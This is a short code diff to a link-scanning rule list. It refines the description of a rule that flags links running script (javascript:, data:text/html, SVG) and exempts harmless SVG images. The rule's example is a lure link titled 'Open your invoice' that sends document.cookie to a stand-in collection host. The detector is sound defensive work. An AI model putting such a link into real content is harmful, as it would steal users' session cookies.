@@ -49,7 +49,8 @@ URL_RULES: Final = (
     (
         "url_script_scheme",
         "a link or image whose target runs script or is a document: javascript:, vbscript:, data:text/html, "
-        "data:image/svg+xml, data: script (markdown, reference-style or HTML)",
+        "data:image/svg+xml, data: script (markdown, reference-style or HTML); not an SVG picture shown as an image "
+        "(markdown, <img>, <source>, <picture>, an icon's <link>) that runs no script and loads nothing",
         "[Open your invoice](javascript:fetch('https://collect.example.net/?c='+document.cookie))",
     ),
     (
